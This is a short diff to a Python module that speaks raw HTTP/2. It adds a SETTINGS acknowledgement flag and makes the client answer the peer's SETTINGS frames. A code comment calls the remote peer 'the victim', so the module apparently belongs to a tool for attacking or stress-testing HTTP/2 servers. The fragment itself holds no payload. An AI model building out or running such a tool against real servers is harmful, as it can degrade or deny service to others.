@@ -28,6 +28,7 @@ if TYPE_CHECKING:
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
 END_STREAM: Final = 1
+ACKNOWLEDGED: Final = 1
 INITIAL_WINDOW_SIZE: Final = 4
 END_HEADERS: Final = 4
 CONNECTIONS: Final = 8
@@ -391,7 +392,9 @@ def _send_within_windows(peer: Peer, stream: int, message: bytes) -> bool:
             kind, on, payload = buffered[3], int.from_bytes(buffered[5:9], "big"), buffered[9:end]
             if kind == WINDOW and on in windows:
                 windows[on] += int.from_bytes(payload, "big")
-            if kind == SETTINGS:
+            if kind == SETTINGS and not buffered[4] & ACKNOWLEDGED:
+                # Until it is told so, the victim holds the stream to the window of before.
+                peer.socket.sendall(frame(SETTINGS, ACKNOWLEDGED, 0, b""))
                 for start in range(0, len(payload), 6):
                     name, value = struct.unpack(">HI", payload[start : start + 6])
                     if name == INITIAL_WINDOW_SIZE:
